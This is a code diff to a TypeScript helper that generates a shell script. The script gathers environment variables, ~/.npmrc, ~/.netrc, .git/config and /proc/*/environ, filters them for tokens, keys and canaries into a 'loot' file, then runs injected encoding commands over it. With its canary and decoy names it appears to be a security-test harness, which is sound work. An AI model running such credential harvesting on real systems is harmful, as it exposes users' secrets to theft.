@@ -95,10 +95,10 @@ const encoders: Record<Encoding, string> = {
 export function scriptOf(injections: readonly Injection[], secretFiles: readonly string[]): string {
   const files = secretFiles.map((path) => `'${path}'`).join(' ');
   return [
-    `{ env; cat ${files} ~/.npmrc ~/.netrc .git/config decoy.txt /proc/*/environ; } 2>/dev/null | tr '\\0' '\\n' | grep -a -i -E 'canary|token|key|secret' > /tmp/loot`,
+    `{ env; cat ${files} ~/.npmrc ~/.netrc .git/config decoy.txt /proc/*/environ; } 2>/dev/null | tr '\\0' '\\n' | grep -a -i -E 'canary|token|key|secret' > "$TMPDIR/loot"`,
     ...injections.map(
       ({ command, encoding }) =>
-        `( cp /tmp/loot loot; encode() { ${encoders[encoding]}; }; ${command} ) 2>/dev/null </dev/null`,
+        `( cp "$TMPDIR/loot" loot; encode() { ${encoders[encoding]}; }; ${command} ) 2>/dev/null </dev/null`,
     ),
     'rm -f loot',
   ].join('\n');
